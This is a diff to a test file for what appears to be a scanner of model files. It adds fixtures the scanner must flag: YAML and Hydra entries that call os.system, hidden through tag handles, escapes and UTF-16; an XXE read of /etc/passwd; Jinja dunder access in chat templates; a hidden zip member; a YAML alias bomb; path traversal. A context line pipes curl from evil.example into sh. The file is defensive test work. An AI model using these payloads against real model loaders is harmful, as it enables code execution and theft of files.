@@ -90,6 +90,20 @@ def commented(comment: bytes) -> bytes:
     return zipped({"archive/data.pkl": PLAIN})[:-2] + struct.pack("<H", len(comment)) + comment
 
 
+def unlisted() -> bytes:
+    """A zip whose first member its directory leaves out."""
+    archive = zipped({"archive/data.pkl": CALL4, "archive/version": b"3\n"})
+    first, end = archive.index(b"PK\1\2"), archive.index(b"PK\5\6")
+    directory = archive[archive.index(b"PK\1\2", first + 4) : end]
+    return archive[:first] + directory + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 1, 1, len(directory), first, 0)
+
+
+def laughing() -> bytes:
+    """YAML of ten lines of aliases, each for nine of those before."""
+    lines = [f"a{index}: &a{index} [{', '.join([f'*a{index - 1}'] * 9)}]\n" for index in range(1, 10)]
+    return ("a0: &a0 [ha, ha]\n" + "".join(lines)).encode()
+
+
 def edited(find: bytes, put: bytes, *, last: bool = False) -> bytes:
     data = zipped({"archive/data.pkl": CALL2})
     at = data.rindex(find) if last else data.index(find)
@@ -359,6 +373,31 @@ DANGEROUS: Final[dict[str, tuple[str, Callable[[], bytes]]]] = {
     "a program behind a pickle": ("m.bin", lambda: PLAIN + b"\x7fELF\x02\x01\x01" + bytes(60)),
     "a Core ML model in another file": ("m.mlmodel", lambda: field(1, 1) + long_field(556, field(1, field(1, field(1, b"../x.mlmodel"))))),
     "an image manifest": ("image.manifest", lambda: b'{"layers": ["../evil.tar.gz"]}'),
+    "a member that a directory leaves out": ("m.pt", unlisted),
+    "a YAML tag behind a handle": ("model.yaml", lambda: b"%TAG !p! tag:yaml.org,2002:python/\n---\n!p!object/apply:os.system ['true']\n"),
+    "a YAML tag in escapes": ("model.yaml", lambda: b"!!pyth%6Fn/object/apply:os.system ['true']\n"),
+    "a YAML tag in UTF-16": ("model.yaml", lambda: "x: !!python/object/apply:os.system ['true']\n".encode("utf-16")),
+    "a YAML target in braces": ("m.yaml", lambda: b"model: {lr: 1, _target_: os.system, command: 'true'}\n"),
+    "a YAML target in escapes": ("m.yaml", lambda: b'model:\n  "_t\\x61rget_": os.system\n'),
+    "a YAML target by an alias": ("m.yaml", lambda: b"x: &x os.system\nmodel:\n  _target_: *x\n"),
+    "an XML entity in UTF-16": ("m.xml", lambda: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'.encode("utf-16")),
+    "Keras Lambda in UTF-16": ("m.keras", lambda: zipped({"config.json": json.dumps(lambda_config()).encode("utf-16-le")})),
+    "a chat template of characters": ("chat_template.jinja", lambda: b"{{ x['%c%cclass%c%c'|format(95, 95, 95, 95)] }}"),
+    "a chat template of any dunder": ("chat_template.jinja", lambda: b"{% set y = x.__setattr__ %}"),
+    "SavedModel ReadFile as a text": (
+        "saved_model.pbtxt",
+        lambda: b"meta_graphs { graph_def { node { name: 'a' op: \"Read\" 'F\\x69le' } } }",
+    ),
+    "ONNX compiled for a device, outside": (
+        "m.onnx",
+        lambda: onnx(
+            node=field(4, b"EPContext")
+            + field(7, b"com.microsoft")
+            + field(5, field(1, b"embed_mode") + field(3, 0))
+            + field(5, field(1, b"ep_cache_context") + field(4, b"../../evil.bin"))
+        ),
+    ),
+    "compiled Lua": ("m.bin", lambda: b"\x1bLJ\2" + bytes(40)),
     "a subinterpreter": ("a.pkl", lambda: named("_interpreters", "create")),
 }
 """What must be called dangerous."""
@@ -391,6 +430,8 @@ UNKNOWN: Final[dict[str, tuple[str, Callable[[], bytes]]]] = {
     "a list in itself": ("a.pkl", lambda: b"\x80\x04]\x94h\x00ah\x00a."),
     "a command in a binary": ("m.cbm", lambda: b"CBM1" + bytes(40) + b"curl https://evil.example/x | sh" + bytes(20)),
     "a Core ML layer of its author": ("m.mlmodel", lambda: field(1, 1) + long_field(500, field(1, long_field(500, field(10, b"Evil"))))),
+    "aliases of YAML that multiply": ("m.yaml", laughing),
+    "a target by an interpolation": ("m.yaml", lambda: b"model:\n  _target_: ${elsewhere}\n"),
     "a target of nobody's": ("m.yaml", lambda: b"model:\n  _target_: custom.evaluate\n"),
     "a method of skops": (
         "m.skops",
@@ -420,6 +461,14 @@ UNREAD: Final[dict[str, tuple[str, Callable[[], bytes]]]] = {
     "bad JSON": ("config.json", lambda: b'{"a": '),
     "an archive in 10 archives": ("m.zip", lambda: _nested(10)),
     "no HDF5": ("m.h5", lambda: b"not HDF5 at all"),
+    "a notebook": ("m.ipynb", lambda: b'{"cells": [{"cell_type": "code", "source": ["1"]}]}'),
+    "data of R": ("m.rds", lambda: gzip.compress(b"X\n\0\0\0\3" + bytes(40))),
+    "data of R by another name": ("weights.bin", lambda: b"RDX3\nX\n" + bytes(40)),
+    "an object of Torch7": ("m.dat", lambda: struct.pack("<3i", 4, 1, 3) + b"V 1" + bytes(40)),
+    "bytes behind MessagePack": ("m.msgpack", lambda: b"\x81\xa1w\x01" + b"garbage"),
+    "no MessagePack": ("m.msgpack", lambda: b"\xc1" * 20),
+    "no parameters of Paddle": ("m.pdparams", lambda: b"\xf3" * 100),
+    "a JSON with zeros": ("config.json", lambda: b'{"a": 1}\0\0'),
     "no archive": ("m.tar", lambda: b"not a tar"),
 }
 """What could not be read to its end: never clean."""
@@ -471,6 +520,16 @@ HARMLESS: Final[dict[str, tuple[str, Callable[[], bytes]]]] = {
     ),
     "an ordinary graph of MXNet": ("net-symbol.json", lambda: mxnet({"num_filter": "8"})),
     "a zip with a remark": ("m.zip", lambda: commented("Trained on 2024-01-01\r\nfür alle".encode())),
+    "labels": ("labels.txt", lambda: b"cat\ndog\nbird\nfrog\n"),
+    "labels that begin as another call does": ("labels.txt", lambda: b"ice\nrain\nsnow\n"),
+    "a vocabulary": ("vocab.txt", lambda: b"the\npoint\nlicense\ncos\nsin\ntan\npaint\nred\n"),
+    "a package of PyTorch's with its list of modules": (
+        "m.pt",
+        lambda: zipped({"m/.data/extern_modules": b"collections\ntorch._utils\ntorch\n", "m/model/x.pkl": PLAIN}),
+    ),
+    "YAML with aliases": ("m.yaml", lambda: b"base: &base\n  lr: 1\na:\n  <<: *base\nb:\n  <<: *base\n  _target_: torch.optim.Adam\n"),
+    "JSON in UTF-16": ("config.json", lambda: '{"a": "ä"}'.encode("utf-16")),
+    "MessagePack": ("m.msgpack", lambda: b"\x81\xa1w\x01"),
     "random bytes": ("weights.bin", lambda: bytes((index * 7919 + index // 251) % 256 for index in range(100_000))),
 }
 """What ordinary models are: no alarm."""
